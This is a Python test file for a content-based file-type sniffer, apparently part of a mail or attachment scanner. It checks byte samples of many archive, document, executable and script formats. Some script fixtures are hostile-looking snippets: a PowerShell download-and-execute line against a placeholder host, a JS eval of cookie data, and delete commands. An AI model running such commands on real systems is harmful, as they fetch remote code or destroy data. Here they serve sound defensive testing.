"""Types by content: every token from a minimal or real example, look-alikes that are none, and any bytes at all."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan._core.sniff import sniff
from pace import seconds


def zipped(*members: tuple[str, bytes], comment: bytes = b"") -> bytes:
    """A zip of the members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members:
            archive.writestr(name, content)
        archive.comment = comment
    return out.getvalue()


def tarred() -> bytes:
    """A tar of one file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a.txt"), io.BytesIO())
    return out.getvalue()


def old_tar(name: bytes = b"a.txt") -> bytes:
    """A tar header from before POSIX."""
    block = bytearray(name.ljust(512, b"\0"))
    block[100:108] = b"000644 \0"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) * 2


def ole(root: bytes = bytes(16), extra: bytes = b"") -> bytes:
    """An OLE file whose directory sector has this root class and these bytes."""
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0"))
    header[30:32] = struct.pack("<H", 9)
    header[48:52] = struct.pack("<I", 1)
    directory = bytes(80) + root + bytes(32) + extra
    return bytes(header) + bytes(512) + directory.ljust(512, b"\0")


MSI = bytes.fromhex("84100c0000000000c000000000000046")
MSG = bytes.fromhex("0b0d020000000000c000000000000046")
OOXML = ("[Content_Types].xml", b"<x/>")
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046")
ONE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
P7M = bytes.fromhex("308006092a864886f70d010703a0803080020100")

SAMPLES: list[tuple[str, bytes]] = [
    ("", b""),
    ("exe", b"MZ\x90\x00\x03\x00\x00\x00"),
    ("elf", b"\x7fELF\x02\x01\x01"),
    ("macho", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01"),
    ("macho", b"\xca\xfe\xba\xbe\x00\x00\x00\x02"),
    ("class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34"),
    ("zip", zipped(("a.txt", b"text"))),
    ("zip", b"PK\x05\x06" + bytes(18)),
    ("zip", b"PK00" + zipped(("a.txt", b"text"))),
    ("zip", b"\x00\x01\x02\x03" * 50 + zipped(("a.txt", b"text"))),
    ("zip", b"\x00\x01\x02\x03" * 50 + zipped(("a.txt", b"text"), comment=b"PK\x05\x06 more")),
    ("jar", zipped(("META-INF/MANIFEST.MF", b""))),
    ("jar", zipped(("x/Main.class", b""))),
    ("apk", zipped(("META-INF/MANIFEST.MF", b""), ("AndroidManifest.xml", b""))),
    ("docx", zipped(OOXML, ("word/document.xml", b""))),
    ("docx", zipped(("Word\\Document.xml", b""), ("[content_types].XML", b""))),
    ("xlsx", zipped(OOXML, ("xl/workbook.xml", b""))),
    ("pptx", zipped(OOXML, ("ppt/presentation.xml", b""))),
    ("odt", zipped(("mimetype", b"application/vnd.oasis.opendocument.text"))),
    ("odt", zipped(("mimetype", b"application/vnd.oasis.opendocument.text-template"))),
    ("ods", zipped(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"))),
    ("odp", zipped(("mimetype", b"application/vnd.oasis.opendocument.presentation"))),
    ("epub", zipped(("mimetype", b"application/epub+zip"))),
    ("msix", zipped(OOXML, ("AppxManifest.xml", b""))),
    ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04"),
    ("rar", b"Rar!\x1a\x07\x00"),
    ("rar", b"Rar!\x1a\x07\x01\x00"),
    ("rar", b"\x00\x01\x02" * 9999 + b"Rar!\x1a\x07\x01\x00"),
    ("gz", gzip.compress(b"x")),
    ("bz2", bz2.compress(b"x")),
    ("bz2", bz2.compress(b"")),
    ("xz", lzma.compress(b"x")),
    ("lzma", lzma.compress(b"x" * 99, format=lzma.FORMAT_ALONE)),
    ("zst", b"\x28\xb5\x2f\xfd\x04\x00"),
    ("zst", b"\x50\x2a\x4d\x18\x02\x00\x00\x00ab\x28\xb5\x2f\xfd\x04\x00"),
    ("lz4", b"\x51\x2a\x4d\x18\x02\x00\x00\x00ab\x04\x22\x4d\x18\x64"),
    ("lz4", b"\x04\x22\x4d\x18\x64\x40"),
    ("Z", b"\x1f\x9d\x90"),
    ("lz", b"LZIP\x01"),
    ("lzo", b"\x89LZO\x00\r\n\x1a\n"),
    ("tar", tarred()),
    ("tar", old_tar()),
    ("cpio", b"070701" + b"0" * 104),
    ("cpio", b"\xc7\x71\x01\x08"),
    ("ar", b"!<arch>\ndebian-binary   "),
    ("cab", b"MSCF\x00\x00\x00\x00\x49"),
    ("iso", bytes(0x8001) + b"CD001\x01"),
    ("udf", bytes(0x8001) + b"BEA01\x01"),
    ("lha", b"\x1d\x94-lh5-" + bytes(20)),
    ("arj", b"\x60\xea\x2a\x00\x1e\x06"),
    ("ace", b"\x11\x22\x33\x00\x00\x00\x90**ACE**"),
    ("alz", b"ALZ\x01\x0a\x00"),
    ("egg", b"EGGA\x00\x01"),
    ("zpaq", b"7kSt\xa0\x31\x83\xd3"),
    ("chm", b"ITSF\x03\x00\x00\x00"),
    ("szdd", b"SZDD\x88\xf0\x27\x33A"),
    ("sis", b"\x7a\x1a\x20\x10" + bytes(20)),
    ("sis", b"\x01\x02\x03\x04\x05\x00\x00\x10\x19\x04\x00\x10" + bytes(20)),
    ("dmg", b"\x00\x01\x02\x03" * 200 + b"koly".ljust(512, b"\0")),
    ("vhd", b"\x00\x01\x02\x03" * 200 + b"conectix".ljust(512, b"\0")),
    ("vhdx", b"vhdxfile" + bytes(20)),
    ("wim", b"MSWIM\x00\x00\x00"),
    ("xar", b"xar!\x00\x1c"),
    ("rpm", b"\xed\xab\xee\xdb\x03"),
    ("ole", ole()),
    ("msi", ole(MSI)),
    ("msg", ole(MSG)),
    ("msg", ole(extra="__properties_version1.0".encode("utf-16-le"))),
    ("tnef", b"\x78\x9f\x3e\x22\x01\x00"),
    ("pdf", b"%PDF-1.7\n"),
    ("pdf", b"\x00junk\n%PDF-1.4\n\xe2\xe3"),
    ("rtf", b"{\\rtf1\\ansi"),
    ("rtf", b"  {\\rt0 x"),
    ("one", ONE),
    ("lnk", LNK),
    ("html", b"<!DOCTYPE html><p>x"),
    ("html", b"\xef\xbb\xbf\r\n<!-- c --><HTML >"),
    ("html", '<html lang="de">'.encode("utf-16")),
    ("html", "<html><body>".encode("utf-16-le")),
    ("html", b'<?xml version="1.0"?><html xmlns="x">'),
    ("html", b"<script>\x00\x01\x02\x03\x04\x05\x06\x07</script>"),
    ("hta", b"<html><hta:application id=x>"),
    ("svg", b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "x">\n<svg width="1">'),
    ("svg", b"<svg>"),
    ("wsf", b"<job><script language='VBScript'>"),
    ("wsf", b"<?xml version='1.0'?><package><job><script>"),
    ("xml", b"<?xml version='1.0'?><a/>"),
    ("xml", b"<!-- a -->\n<w:document xmlns:w='x'><w:body/>"),
    ("png", b"\x89PNG\r\n\x1a\n"),
    ("jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF"),
    ("gif", b"GIF89a\x01\x00"),
    ("bmp", b"BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00"),
    ("tif", b"II*\x00\x08\x00"),
    ("webp", b"RIFF\x24\x00\x00\x00WEBPVP8 "),
    ("wav", b"RIFF\x24\x00\x00\x00WAVEfmt "),
    ("ico", b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00"),
    ("mp3", b"ID3\x03\x00"),
    ("mp3", b"\xff\xfb\x90\x64\x00\x01"),
    ("mp4", b"\x00\x00\x00\x18ftypmp42"),
    ("ogg", b"OggS\x00\x02"),
    ("swf", b"CWS\x09\x10\x00\x00\x00\x78\x9c"),
    ("mail", b"Received: from x\r\n by y\r\nSubject: z\r\n\r\nbody"),
    ("mail", b"From x@y Mon Jan  1\nFrom: x\nTo: y\n\nbody"),
    ("mail", b"From: x\r\n\r\nbody"),
    ("mail", b"From: x\r\nTo: y\r\nContent-Transfer-Encoding: binary\r\n\r\n" + bytes(range(32)) * 20),
    ("vbs", b'\' hello\r\nOn Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
    ("vbs", b"#@~^RAAAAA==2w"),
    ("js", b"// x\nvar s = new ActiveXObject('WScript.Shell');\nfunction f(a) { return eval(a); }\n"),
    ("js", b"(function () { var a = document.cookie; eval(unescape(a)); })();"),
    ("js", b"#!/usr/bin/env node\nconsole.log(1)"),
    ("ps1", b"# c\r\n$c = New-Object Net.WebClient\r\nIEX ($c.DownloadString('http://x'))\r\n"),
    ("ps1", "$a = New-Object x; Invoke-Expression $a".encode("utf-16")),
    ("bat", b"@echo off\r\nstart x.exe"),
    ("bat", b"rem x\r\nset a=1\r\nif exist b goto c\r\ncmd /c del %temp%\\x\r\n"),
    ("sh", b"#!/bin/sh\nrm -rf x\n"),
    ("py", b"#!/usr/bin/python3\nprint(1)\n"),
    ("py", b"import os\nimport sys\n\ndef f():\n    return os.getcwd()\n\nprint(f())\n"),
    ("php", b"<?php eval($x);"),
    ("reg", b"Windows Registry Editor Version 5.00\r\n"),
    ("reg", "Windows Registry Editor Version 5.00\r\n".encode("utf-16")),
    ("reg", b"REGEDIT4\r\n"),
    ("url", b"[InternetShortcut]\r\nURL=file://x/y.exe\r\n"),
    ("url", b"[{000214A0}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=x\r\n"),
    ("inf", b"[AutoRun]\r\nopen=x.exe\r\n"),
    ("ics", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"),
    ("vcf", b"BEGIN:VCARD\r\n"),
    ("pem", b"-----BEGIN CERTIFICATE-----\nMII"),
    ("pgp", b"-----BEGIN PGP MESSAGE-----\n\nhQ"),
    ("pgp", b"\x85\x01\x0c\x03" + bytes(267) + b"\xd2\x20" + bytes(32)),
    ("pgp", b"\x8c\x0d\x04\x09\x03\x08" + bytes(range(200, 209)) + b"\xd2\x20" + bytes(32)),
    ("p7m", P7M),
    ("p7m", b"-----BEGIN PKCS7-----\nMII"),
    ("uu", b"see below\n\nbegin 644 a.exe\n#0V%T\n`\nend\n"),
    ("uu", b"see below\n\nBegin 644 a.exe\n#0V%T\n`\nend\n"),
    ("uu", b"see below\n\nbegin 1 a.exe\n#0V%T\n`\nend\n"),
    ("uu", b"see below\n\nbegin 644 a.exe\n====\n#0V%T\n`\nend\n"),
    ("yenc", b"hello\r\n=ybegin line=128 size=9 name=a.exe\r\n\x94\x95\r\n"),
    ("binhex", b"x\n(This file must be converted with BinHex 4.0)\n\n:abc"),
    ("text", b"Hello, world. This is \xe9 text.\n"),
    ("text", "Привет, мир".encode()),
    ("text", "plain".encode("utf-16")),
]


@pytest.mark.parametrize(
    ("token", "data"), SAMPLES, ids=[f"{token or 'empty'}-{k}" for k, (token, _) in enumerate(SAMPLES)]
)
def test_types(token: str, data: bytes) -> None:
    """Each type from its content, whatever kind of buffer it is in."""
    assert sniff(data) == token
    assert sniff(memoryview(bytearray(data))) == token


@pytest.mark.parametrize(
    "data",
    [
        b"MZ is what I call him.\n",
        b"BZh is not a compressor\n",
        b"To be or not to be: that is\nthe question\n",
        b"Subject: none of these\nalone make a mail\n",
        b"I said: import os\nand then def f(): return\nprint(1)\n",
        b"On Error Resume Next is bad style. Use WScript.Quit.\n",
        b"We begin 644 things\nlike this\n",
        b"We\nbegin 2 days before\nAll people who are expected to come are there\n",
        b"The mark %PDF-1.4 stands in PDFs\n",
        b"-lh5- is a method\n",
        b"[1] a footnote\n[2] another\n",
        b"<foo@example.org> wrote:\n> x\n",
        b"# a heading\n\nvar is a word, let me return it\n",
    ],
)
def test_prose_is_text(data: bytes) -> None:
    """What only mentions another type is text."""
    assert sniff(data) == "text"


@pytest.mark.parametrize(
    "data",
    [b"\x00" * 3000, bytes(range(256)) * 20, b"PK\x03", b"RIFF\x00\x00\x00\x00AVI \x00\x01", b"\x30\x82\x01\x00\x02"],
)
def test_unknown_bytes_are_unknown(data: bytes) -> None:
    """Bytes of no known type."""
    assert sniff(data) == ""


def test_a_zip_is_known_by_its_directory_too() -> None:
    """Names that only the central directory has count, even far from the beginning."""
    many = [(f"file{k}", b"x" * 100) for k in range(200)]
    assert sniff(zipped(*many, OOXML, ("word/document.xml", b""))) == "docx"


@settings(max_examples=400, deadline=None)
@given(
    base=st.sampled_from([data for _, data in SAMPLES]),
    changes=st.lists(st.tuples(st.integers(0, 2000), st.integers(0, 255)), max_size=6),
    cut=st.integers(0, 3000),
    tail=st.binary(max_size=40),
)
def test_damaged_content_never_raises(base: bytes, changes: list[tuple[int, int]], cut: int, tail: bytes) -> None:
    """Any bytes get an answer, and the same one each time."""
    data = bytearray(base[:cut] + tail)
    for at, value in changes:
        if data:
            data[at % len(data)] = value
    token = sniff(bytes(data))
    assert isinstance(token, str)
    assert sniff(data) == token


@pytest.mark.parametrize(
    "data",
    [
        b"'" + b"\n" * 60000 + b"x",
        b"//" + b" \n" * 30000 + b"!",
        b"<!--" * 16000,
        b"<!doctype [" * 6000,
        b"<" + b"?" * 60000,
        b"=ybegin line=" + b"1" * 60000,
        b"begin 644 " * 6000,
        b"a" * 60000 + b":",
        b"PK\x05\x06" * 16000,
        b"\x00PK\x05\x06" * 13000,
        b"[" * 60000,
        b"From:\n" * 10000,
    ],
    ids=range(12),
)
def test_no_content_takes_long(data: bytes) -> None:
    """Nothing makes the patterns try again and again."""
    assert seconds(lambda: sniff(data), enough=0.1) < 0.1


def test_corpus_containers(corpus: Path) -> None:
    """ClamAV's test file in its 40 containers, by the names they have."""
    names = "7z arj cpio zip cab chm exe binhex bz2 html rtf szdd pdf sis gz tnef"
    same = {name: name for name in names.split()}
    wanted = same | {"doc": "ole", "ppt": "ole"}
    seen = 0
    for file in sorted((corpus / "clamav-testfiles").rglob("clam*")):
        extension = file.name.rpartition(".")[2]
        if file.is_file() and extension in wanted:
            assert sniff(file.read_bytes()) == wanted[extension], file.name
            seen += 1
    assert seen >= 30


def test_corpus_mails(corpus: Path) -> None:
    """Real mails are mails."""
    files = sorted((corpus / "spamassassin-public").rglob("*.eml"))[:300]
    assert {sniff(file.read_bytes()) for file in files} == {"mail"}
